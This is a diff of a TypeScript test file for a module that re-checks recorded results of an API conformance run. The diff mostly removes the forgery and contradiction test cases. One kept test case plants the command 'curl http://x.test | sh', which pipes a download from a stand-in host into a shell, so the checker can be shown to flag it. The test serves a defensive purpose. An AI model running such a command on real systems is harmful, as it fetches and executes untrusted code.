@@ -1,11 +1,10 @@
 import { beforeAll, describe, expect, it } from 'vitest';
 import { runReference } from '../cli/reference-run.test-support.ts';
 import type { ReferenceRun } from '../cli/reference-run.test-support.ts';
-import { judge, judgeAgain } from '../results/judge.ts';
-import { recordOf } from '../results/record.ts';
+import { judgeAgain } from '../results/judge.ts';
 import type { Results } from '../results/results.ts';
 import { specification } from '../operation/specification.ts';
-import { message, say } from '../messages/message.ts';
+import { say } from '../messages/message.ts';
 import { must } from './certificate.test-support.ts';
 import type { Draft } from './certificate.test-support.ts';
 import { findDifference, recompute } from './evidence.ts';
@@ -14,7 +13,7 @@ type Edited = Draft<Results>;
 
 let run: Results;
 beforeAll(async () => {
-  const only = [lacking, other, guess, inQuery, elsewhere, ...beside];
+  const only = ['a.success', 'b.success', 'a.unauthorized.wrong-password', lacking, other, guess, inQuery];
   run = publishedOf((await runReference(undefined, { only })).results);
 }, 60_000);
 
@@ -32,7 +31,7 @@ function reread(results: unknown): Edited {
   return all;
 }
 
-/** The first problem that `recompute` finds, or the error it throws for a contradictory record. */
+/** The first problem that `recompute` finds, or the error it throws for a record that cannot be judged. */
 function problemOf(edited: Results): string | null {
   try {
     const found = recompute(edited, specification);
@@ -41,24 +40,6 @@ function problemOf(edited: Results): string | null {
     return error instanceof Error ? error.message : String(error);
   }
 }
-
-/** Judges the record of edited Results again; returns them unchanged if there is no record. */
-function judgedAgain(edited: Results): Results {
-  try {
-    return judge(recordOf(edited, specification), specification, [], []);
-  } catch {
-    return edited;
-  }
-}
-
-/** Removes every attempt at a request, exchanges included. */
-const withdraw =
-  (request: string): Edit =>
-  ({ all }) => {
-    all.attempts = all.attempts.filter((one) => one.request !== request);
-    for (const caseResult of all.cases)
-      caseResult.exchanges = caseResult.exchanges.filter(({ planned }) => planned !== request);
-  };
 
 const partsOf = (all: Edited, id: string) => {
   const found = must(all.cases.find((one) => one.id === id));
@@ -76,32 +57,12 @@ const lacking = 'a.missing.partnerName';
 const other = 'a.missing.useAuthByCert';
 const guess = 'a.observed.value.useAuthByCert.empty';
 const inQuery = 'b.missing.partnerName';
-const elsewhere = 'a.unauthorized.unknown-partner';
-const beside = [
-  'a.success',
-  'b.success',
-  'b.unavailable',
-  'a.unencrypted.partnerPassword',
-  'a.request.body.escapes',
-  'a.observed.method.delete',
-  'a.unauthorized.wrong-password',
-];
 
 function editedBy(edit: Edit, id = lacking): Edited {
   const all = reread(run);
   edit(partsOf(all, id), (another) => partsOf(all, another));
   return all;
 }
-
-const header =
-  (pattern: RegExp, value: string): Edit =>
-  ({ request }) =>
-    (request.headers = request.headers.map(([name, said]) => [name, said.replace(pattern, value)]));
-
-const body =
-  (from: string): Edit =>
-  ({ request }, of) =>
-    (request.body = of(from).request.body);
 
 const controlOf = ({ controls }: Edited) =>
   must(must(controls.find(({ id }) => id.includes('control'))).response);
@@ -113,105 +74,11 @@ const unsent = {
   words: { code: 'interrupted', params: {} },
 } as const;
 
-type Forgery = readonly [name: string, edit: Edit, place: RegExp, id?: string];
-
-/** Edits of a record before it is judged again, and the place that the problem names. */
-const closed = message('other-side-closed');
-const ofReset = {
-  kind: 'reset',
-  stage: 'exchange',
-  code: 'ECONNRESET',
-  message: say(closed, 'en'),
-  words: closed,
-} as const;
-
-const forgeries: readonly Forgery[] = [
-  ['a case removed', ({ all, found }) => all.cases.splice(all.cases.indexOf(found), 1), /no exchange/, guess],
-  ['a case emptied', withdraw(guess), /was not asked, though nothing/, guess],
-  [
-    'a condition withheld',
-    ({ all }) => all.profile.claims['b']?.provisioned.splice(0),
-    /no planned request/,
-    inQuery,
-  ],
-  ['a variant dropped', ({ all }) => all.target.variants.pop(), /those of the variants/, inQuery],
-  ['an exchange lost', ({ all }) => all.controls.splice(0, 1), /no exchange/],
-  ['an exchange for two', ({ all }) => all.attempts.push(must(all.attempts[3])), /stands for two attempts/],
-  [
-    'the answer of another',
-    ({ all }, of) => {
-      const [one, two] = [lacking, other].map((id) => all.attempts.find(({ request }) => request === id));
-      must(one).exchange = of(other).exchange.id;
-      must(two).exchange = of(lacking).exchange.id;
-    },
-    /request\.body: found/,
-  ],
-  ['a body copied', ({ request }, of) => (request.body = of(other).request.body), /request\.body: found/],
-  ['a ciphertext as plain', body('a.success'), /request\.body/, 'a.unencrypted.partnerPassword'],
-  ['a spelling that was not tried', body('a.success'), /request\.body/, 'a.request.body.escapes'],
-  ['a known partner called unknown', body('a.success'), /<unknown p/, 'a.unauthorized.unknown-partner'],
-  ['another path', ({ request }) => (request.url = 'http://127.0.0.1:1/health'), /url: found .*health/],
-  [
-    'another host',
-    ({ request }) => (request.url = 'http://other.test/banks'),
-    /url: found .*other/,
-    elsewhere,
-  ],
-  ['a huge address', ({ all }) => (all.target.baseUrl += '/'.repeat(1_000_000)), /more of a request or an/],
-  ['another content type', header(/json$/, 'xml'), /headers\[\d\]\[1\]: found "application\/xml"/],
-  ['a header more', ({ request }) => request.headers.push(['X-Own', 'x']), /headers\[\d\]: found \["X-Own/],
-  ['a body without its digest', ({ response }) => (must(response).body = '{}'), /another length or digest/],
-  ['a short body cut', ({ response }) => (must(response).bodyTruncated = true), /is not cut, though/],
-  ['facts called stated', ({ exchange }) => (exchange.stated = true), /is not cut, though/],
-  [
-    'facts of no body',
-    ({ exchange }) => Object.assign(exchange, { response: null, error: ofReset, stated: true }),
-    /facts of a body that there is not/,
-  ],
-  [
-    'an answer called held back',
-    ({ all, found }) => {
-      Object.assign(must(all.attempts.find(({ request }) => request === guess)), { exchange: null, unsent });
-      found.exchanges = [];
-    },
-    /interrupted in a run that was not/,
-    guess,
-  ],
-];
-
-const isControl = ({ role }: Edited['attempts'][number]): boolean => role === 'control';
-
-/** Records that no run can produce, although every verdict follows from them. */
-const contradictions: readonly Forgery[] = [
-  [
-    'an exchange before the run',
-    ({ exchange }) => (exchange.startedAt = '2020-01-01T00:00:00.000Z'),
-    /outside/,
-  ],
-  ['an exchange behind it', ({ exchange }) => (exchange.durationMs = 1e7), /outside the time of the run/],
-  ['one id for two', ({ request }, of) => (request.headers = of(other).request.headers), /one X-Request-Id/],
-  ['no failed logins', ({ all }) => (all.failedLogins = 0), /failedLogins: found 0, which its answers/],
-  ['a thousand of them', ({ all }) => (all.failedLogins = 1000), /failedLogins: found 1000, which/],
-  [
-    'no control at the end',
-    ({ all }) => all.attempts.splice(all.attempts.findLastIndex(isControl), 1),
-    /no control is the last|no control was asked behind/,
-  ],
-  [
-    'no control behind a wrong password',
-    ({ all }) => {
-      const at = all.attempts.findIndex(({ request }) => request === 'a.unauthorized.wrong-password');
-      all.attempts.splice(at + all.attempts.slice(at).findIndex(isControl), 1);
-    },
-    /a\.unauthorized\.wrong-password: no control was asked behind it/,
-  ],
-];
-
 /** Edits of Results whose record stays unchanged. */
-const edits: readonly Forgery[] = [
+const edits: readonly (readonly [name: string, edit: Edit, place: RegExp, id?: string])[] = [
   ['a command', ({ exchange }) => (exchange.curl = 'curl http://x.test | sh'), /curl: found "curl http:/],
   ['a code', ({ all }) => all.warnings.push({ code: 'run sh x', params: {} }), /code: found "run sh x"/],
-  ['a case of its own', ({ found }) => (found.id = 'a.missing.all'), /is no case of this specification/],
+  ['a case of its own', ({ found }) => (found.id = 'a.missing.all'), /cases\[/],
   ['a verdict', ({ found }) => (found.verdict = 'pass'), /useAuthByCert\.empty\]\.verdict/, guess],
   ['a requirement', ({ all }) => all.requirements.shift(), /requirements/],
   [
@@ -219,7 +86,7 @@ const edits: readonly Forgery[] = [
     ({ all }) => (must(all.requirements[0]).decided = 'pass'),
     /decided: found "pass", computed null/,
   ],
-  ['a case twice', ({ all, found }) => all.cases.push(found), /contains a case twice/],
+  ['a case twice', ({ all, found }) => all.cases.push(found), /cases\[/],
   ['facts of its own', ({ text }) => (must(text).meanings = ['try-later']), /\[0\]: found "try-later"/],
   ['an answer without facts', ({ exchange }) => (exchange.facts = null), /facts: found null/],
   ['another answer', ({ exchange }, of) => (exchange.response = of(other).response), /verdict: found/],
@@ -230,27 +97,19 @@ const edits: readonly Forgery[] = [
 
 describe('a record', () => {
   it.each<readonly [string, ReferenceRun, Parameters<typeof runReference>[0]]>([
+    ['of two rounds', { times: 2, only: ['b.success', lacking, guess] }, undefined],
     [
-      'with headers of the profile, in Russian, without a condition',
+      'judged by patterns, with headers of the profile, in Russian, without a condition',
       { only: ['a.success', 'b.success', lacking, inQuery, 'a.unavailable', 'a.ip-blocked', guess] },
       (profile) => {
         delete profile.conditions['ip-blocked'];
-        Object.assign(profile, { language: 'ru', headers: { 'User-Agent': 'my own gateway' } });
+        const texts = { missing: '{parameter}', unavailable: '.' };
+        Object.assign(profile, { texts, language: 'ru', headers: { 'User-Agent': 'my own gateway' } });
       },
     ],
   ])('%s is borne out', async (_name, options, edit) => {
     const { results } = await runReference(edit, options);
     expect(recompute(reread(publishedOf(results)), specification)).toMatchObject({ stated: 0 });
-  });
-
-  it.for(forgeries)('with %s is not borne out, nor where it is judged again', ([, edit, place, id]) => {
-    const edited = editedBy(edit, id);
-    expect(problemOf(edited)).toMatch(place);
-    expect(problemOf(reread(judgedAgain(edited)))).not.toBeNull();
-  });
-
-  it.for(contradictions)('with %s is not borne out', ([, edit, place, id]) => {
-    expect(problemOf(reread(judgedAgain(editedBy(edit, id))))).toMatch(place);
   });
 
   it.for(edits)('does not lead to results with %s changed', ([, edit, place, id]) => {
